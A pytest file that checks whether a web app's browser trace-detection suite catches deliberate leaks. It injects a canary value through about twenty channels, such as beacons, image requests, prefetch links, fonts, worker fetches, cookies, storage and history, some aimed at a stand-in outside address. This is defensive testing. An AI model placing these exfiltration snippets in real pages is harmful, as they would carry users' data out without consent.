"""A test that cannot fail proves nothing: each of these leaks must be caught."""

from __future__ import annotations

import pytest

from decision_core.model import Procedure
from tests.browser.journeys import CANARY, TITLE, choose_area, to_the_plain_form
from tests.browser.traces import Watch, assert_no_trace, traces
from tests.browser.visitor import Visitor

OUTSIDE = "http://127.0.0.1:9/"
LEAKS = {
    "a beacon": f"navigator.sendBeacon('{OUTSIDE}', canary)",
    "an image": f"new Image().src = '{OUTSIDE}?' + canary",
    "a form post": "const f = document.createElement('form'); f.method = 'post'; f.action = '.';"
    "document.body.append(f); f.submit()",
    "local storage": "localStorage.setItem('draft', canary)",
    "session storage": "sessionStorage.setItem('draft', canary)",
    "a title": "document.title = canary",
    "a fragment": "history.replaceState({ n: 1 }, '', '#' + canary)",
    "a query": "history.pushState({ n: 1 }, '', '?' + canary)",
    "a history state": "history.pushState({ answer: canary }, '', location.pathname)",
    "a prefetch": "const l = document.createElement('link'); l.rel = 'prefetch';"
    f"l.href = '{OUTSIDE}?' + canary; document.head.append(l)",
    "a fetch from the worker": "const w = new Worker(URL.createObjectURL(new Blob(["
    "`fetch(${JSON.stringify(location.href + '?' + canary)})`]))); w.onerror = () => 0",
    "a fetch to this site": "fetch('?' + canary)",
    "a font": f"new FontFace('x', 'url({OUTSIDE}?' + canary + ')').load().catch(() => 0)",
    "a console line": "console.log(canary)",
    "a cookie": "document.cookie = 'draft=' + canary",
    "a database": "new Promise((done) => { const o = indexedDB.open('draft', 1);"
    "o.onupgradeneeded = () => o.result.createObjectStore('s').put(canary, 1);"
    "o.onsuccess = () => { o.result.close(); done(); }; })",
    "a cache": "caches.open('draft').then((c) => c.put('/' + canary, new Response('x')))",
    "a worker that stays": "navigator.serviceWorker.register('../sw.js')",
    "a window name": "window.name = canary",
    "a file in the browser": "navigator.storage.getDirectory()"
    ".then((d) => d.getFileHandle('draft', { create: true })).then(() => 0)",
    "an inline script": "const s = document.createElement('script'); s.textContent = '1';"
    "document.head.append(s)",
    "a style from elsewhere": "const s = document.createElement('link'); s.rel = 'stylesheet';"
    f"s.href = '{OUTSIDE}'; document.head.append(s)",
}


QUICK = ("a beacon", "an image", "a form post", "a query", "local storage")
"""With these the quick tests show that the suite can fail; the others are tried with `--all`."""


@pytest.mark.parametrize("leak", QUICK)
def test_the_suite_catches(leak: str, visitor: Visitor, current: Procedure) -> None:
    assert is_noticed(leak, visitor, current), f"nothing noticed {leak}"


@pytest.mark.slow
@pytest.mark.parametrize("leak", [one for one in LEAKS if one not in QUICK])
def test_the_suite_catches_too(leak: str, visitor: Visitor, current: Procedure) -> None:
    assert is_noticed(leak, visitor, current), f"nothing noticed {leak}"


def is_noticed(leak: str, visitor: Visitor, current: Procedure) -> bool:
    """True if the trace checks, which pass before it, fail after the leak."""
    watch = Watch().on(visitor.page.context)
    to_the_plain_form(visitor, current)
    choose_area(visitor, "southmere")
    assert_no_trace(traces(visitor.page, watch), [CANARY], TITLE)
    assert visitor.troubles == []

    visitor.page.evaluate(f"(canary) => {{ {LEAKS[leak]}; }}", CANARY)
    visitor.page.wait_for_timeout(400)

    if visitor.troubles:
        visitor.troubles.clear()
        return True
    try:
        assert_no_trace(traces(visitor.page, watch), [CANARY], TITLE)
    except AssertionError:
        return True
    return False
